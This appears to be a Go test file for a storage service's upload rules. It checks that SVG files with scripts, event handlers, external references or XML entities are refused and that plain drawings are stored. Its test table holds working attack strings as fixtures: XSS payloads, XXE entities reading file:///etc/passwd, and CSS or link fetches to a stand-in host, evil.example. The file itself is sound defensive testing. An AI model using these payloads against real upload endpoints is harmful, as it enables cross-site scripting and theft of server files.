package uploads_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/omnibucket/storage/memstore"
	"github.com/omnibucket/storage/uploads"
	"github.com/omnibucket/storage/uploads/rules"
)

// An SVG that does more than draw is refused.
func TestRulesRefuseSVGThatDoesMore(t *testing.T) {
	const page = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`
	tests := []struct {
		name, content string
		code          uploads.Code // "": it is stored
	}{
		{"a drawing", svgFile, ""},
		{"a drawing with a style", page + `<style>rect{fill:url(#g)}</style><path d="M0 0\"/></svg>`, ""},
		{"a picture inside", page + `<image href="data:image/png;base64,AA"/></svg>`, ""},
		{"an animation of a number", page + `<rect><animate attributeName="x" from="0" to="9"/></rect></svg>`, ""},
		{"a document type", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + page + `</svg>`, ""},
		{"a document type of SVG 1.0, in single quotes", "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.0//EN'\n'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'>" + page + `</svg>`, ""},
		{"a document type without a definition", `<!DOCTYPE svg>` + page + `</svg>`, ""},
		{"a byte order mark", "\xef\xbb\xbf" + page + `</svg>`, ""},
		{"a mark and a declaration", "\xef\xbb\xbf<?xml version='1.0' encoding='utf-8' standalone=\"no\"?>" + page + `</svg>`, ""},
		{"a license in front", "<!-- License: MIT -->\n<!-- <g> -->\n" + page + `</svg>`, ""},
		{"a document type without a declaration", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + page + `</svg>`, ""},
		{"a root with a prefix", `<?xml version="1.0"?><svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:rect/></svg:svg>`, ""},
		{"an element in a comment", page + `<!-- <rect onload="x"/> --></svg>`, ""},
		{"text that looks like a function", page + `<g aria-label="Copy (2)" data-name="a(b)" inkscape:label="Layer(1)"/></svg>`, ""},
		{"functions that only compute", page + `<style>@media (min-width: 9px) and (x) {rect{fill:rgb(1 2 3);transform:translate(calc(1px + 2px))}}</style><g transform="rotate(9)"/></svg>`, ""},
		{"rules without spaces", page + `<style>@media(min-width:9px){g{x:1}}@supports(display:grid){g{x:1}}@container(width>9px){g{x:1}}@scope(.a){g{x:atan2(1px,2px)}}</style></svg>`, ""},
		{"a comment with brackets", page + `<style>/* icon(s), (c) us(2026) */ rect{fill:red}</style><g style="/* layer(s) */x:1"/></svg>`, ""},
		{"a comment that begins in a text", page + `<style>a{content:"/*"}rect{mask:image-set(var(--x))}a{content:"*/"}</style></svg>`, uploads.ActiveContent},
		{"a function of bare words, cut by an element", page + `<style>rect{mask:image-set(<g>x)</g>"https://evil.example" 1x)}</style></svg>`, uploads.ActiveContent},
		{"a rule cut by an element with text", page + `<style>@im<g>x</g>port "https://evil.example"</style></svg>`, uploads.ActiveContent},
		{"a style that fetches by image-set", page + `<style>svg{background-image:image-set("https://evil.example/x.png" 1x)}</style></svg>`, uploads.ActiveContent},
		{"an attribute that fetches by image-set", page + `<rect style='mask-image:-webkit-image-set("https://evil.example/x.png" 1x)'/></svg>`, uploads.ActiveContent},
		{"a property that fetches by image", page + `<rect mask='image("https://evil.example/x.png")'/></svg>`, uploads.ActiveContent},
		{"a font by src", page + `<style>@font-face{src:src("https://evil.example/x")}</style></svg>`, uploads.ActiveContent},
		{"a picture by cross-fade", page + `<style>g{mask:cross-fade("https://evil.example/x", red)}</style></svg>`, uploads.ActiveContent},
		{"an unknown function", page + `<rect style="mask:fetch('https://evil.example')"/></svg>`, uploads.ActiveContent},
		{"an external base", page + `<g xml:base="https://evil.example/a.svg"><use href="#x"/></g></svg>`, uploads.ActiveContent},
		{"a report of clicks", page + `<a href="#x" ping="https://evil.example"/></svg>`, uploads.ActiveContent},
		{"a comment that HTML ends", page + `<!--><img src=x onerror=alert(1)>--></svg>`, uploads.ActiveContent},
		{"a comment that HTML ends a byte later", page + `<!---><img src=x onerror=alert(1)>--></svg>`, uploads.ActiveContent},
		{"a document type that HTML ends", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "><img src=x onerror=alert(1)>" "">` + page + `</svg>`, uploads.ActiveContent},
		{"a declaration that HTML ends", `<?xml version="1.0" x="><img src=x onerror=alert(1)>"?>` + page + `</svg>`, uploads.Damaged},
		{"a declaration of UTF-7", `<?xml version="1.0" encoding = "UTF-7"?>` + page + `</svg>`, uploads.Damaged},
		{"a declaration in the middle", page + `<?xml version="1.0"?></svg>`, uploads.Damaged},
		{"ends that do not fit", page + `<g><title></g></title></svg>`, uploads.Damaged},
		{"an attribute twice", page + `<g id="a" id="b"/></svg>`, uploads.Damaged},
		{"text before", `hello ` + page + `</svg>`, uploads.TypeNotAllowed},
		{"text after the end", page + `</svg>hello`, uploads.Damaged},
		{"a script", page + `<script>alert(1)</script></svg>`, uploads.ActiveContent},
		{"a script in large letters", page + `<SCRIPT href="x"/></svg>`, uploads.ActiveContent},
		{"a script with a prefix", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script/></svg>`, uploads.ActiveContent},
		{"a handler", page + `<rect onload="alert(1)"/></svg>`, uploads.ActiveContent},
		{"a link that runs", page + `<a xlink:href="java&#9;script:alert(1)"/></svg>`, uploads.ActiveContent},
		{"a page inside", page + `<foreignObject/></svg>`, uploads.ActiveContent},
		{"HTML by its namespace", page + `<b xmlns="http://www.w3.org/1999/xhtml"/></svg>`, uploads.ActiveContent},
		{"an external reference", page + `<use href="https://evil.example/x.svg#a"/></svg>`, uploads.ActiveContent},
		{"a drawing in an address", page + `<use href="data:image/svg+xml;base64,AA"/></svg>`, uploads.ActiveContent},
		{"a style that fetches", page + `<style>@import "https://evil.example"</style></svg>`, uploads.ActiveContent},
		{"a style cut by a comment", page + `<style>@im<!-- -->port "x"</style></svg>`, uploads.ActiveContent},
		{"a style after an element", page + `<style><g/>@import "x"</style></svg>`, uploads.ActiveContent},
		{"a style that hides its letters", page + `<rect style="fill:u\72l(//evil.example)"/></svg>`, uploads.ActiveContent},
		{"a fill that fetches", page + `<rect fill="url( 'https://evil.example' )"/></svg>`, uploads.ActiveContent},
		{"an animation that sets a link", page + `<animate attributeName="xlink:href" to="x"/></svg>`, uploads.ActiveContent},
		{"an animation to a script", page + `<set to="javascript:alert(1)"/></svg>`, uploads.ActiveContent},
		{"entities", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]>` + page + `</svg>`, uploads.ActiveContent},
		{"external entities", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>` + page + `</svg>`, uploads.ActiveContent},
		{"external parameter entities", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>` + page + `</svg>`, uploads.ActiveContent},
		{"entities beside the W3C's definition", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY a SYSTEM "x">]>` + page + `</svg>`, uploads.ActiveContent},
		{"an external definition", `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"an external definition in a file", `<!DOCTYPE svg SYSTEM 'file:///etc/passwd'>` + page + `</svg>`, uploads.ActiveContent},
		{"a definition beside the drawing", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"an external definition with a known name", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"a definition at a host like the W3C's", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org.evil.example/svg11.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"a definition at a user named like the W3C", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org@evil.example/svg11.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"a name that is not known", `<!DOCTYPE svg PUBLIC "-//EVIL//DTD X//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + page + `</svg>`, uploads.ActiveContent},
		{"a style sheet's instruction", `<?xml version="1.0"?><?xml-stylesheet href="x"?>` + page + `</svg>`, uploads.ActiveContent},
		{"another encoding", `<?xml version="1.0" encoding="UTF-16"?>` + page + `</svg>`, uploads.Damaged},
		{"two roots", page + `</svg><svg/>`, uploads.Damaged},
		{"no end", page + `<rect>`, uploads.Damaged},
		{"an end too many", page + `</svg></svg>`, uploads.Damaged},
		{"too much to look through", page + strings.Repeat("<g/>", 1<<19) + `</svg>`, uploads.TooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			bucket := memstore.New()
			s := newService(t, bucket, uploads.Config{Rules: rules.Rules{Types: []string{"image/svg+xml"}}})
			_, err := s.Store(t.Context(), uploads.Upload{Body: strings.NewReader(tt.content)})
			require.Equal(t, tt.code, uploads.CodeOf(err), "%v", err)
			if tt.code != "" {
				require.Empty(t, listKeys(t, bucket))
			}
		})
	}
}

// The error for an SVG with a link names the link, and does not call the file a program.
func TestRulesNameLinkInSVG(t *testing.T) {
	s := newService(t, memstore.New(), uploads.Config{Rules: rules.Rules{Types: []string{"image/svg+xml"}}})
	const linkSVG = `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com"><text>x</text></a></svg>`
	_, err := s.Store(t.Context(), uploads.Upload{Body: strings.NewReader(linkSVG)})
	require.Equal(t, uploads.ActiveContent, uploads.CodeOf(err))
	require.ErrorContains(t, err, "a link or an external reference")
	require.NotContains(t, err.Error(), "program")
}
